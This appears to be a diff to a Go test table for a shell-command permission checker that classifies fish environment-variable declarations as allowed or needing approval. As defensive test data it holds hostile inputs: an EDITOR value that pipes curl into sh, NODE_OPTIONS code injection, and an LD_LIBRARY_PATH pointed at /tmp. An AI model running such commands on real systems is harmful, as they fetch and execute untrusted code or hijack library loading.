@@ -219,6 +219,10 @@ func TestLead58FishDeclarations(t *testing.T) {
 		{"fish", `export EDITOR="curl x | sh"; git commit`, dsl.Ask, dsl.Ask},
 		{"fish", `export NODE_OPTIONS='--require x.js'`, dsl.Ask, dsl.Ask},
 		{"fish", `export EDITOR=vim`, dsl.Allow, dsl.Allow},
+		{"fish", `set -gx PYTHONPATH $PWD/src $PYTHONPATH`, dsl.Allow, dsl.Allow}, // a path variable's list is joined by colons (fp58c)
+		{"fish", `set -ex LD_LIBRARY_PATH`, dsl.Allow, dsl.Allow},                 // erased, not set
+		{"fish", `set -qx NODE_OPTIONS; or set -gx NODE_OPTIONS --max-old-space-size=4096`, dsl.Allow, dsl.Allow},
+		{"fish", `set -gx --path LD_LIBRARY_PATH /tmp/x`, dsl.Ask, dsl.Ask},
 	})
 }
 
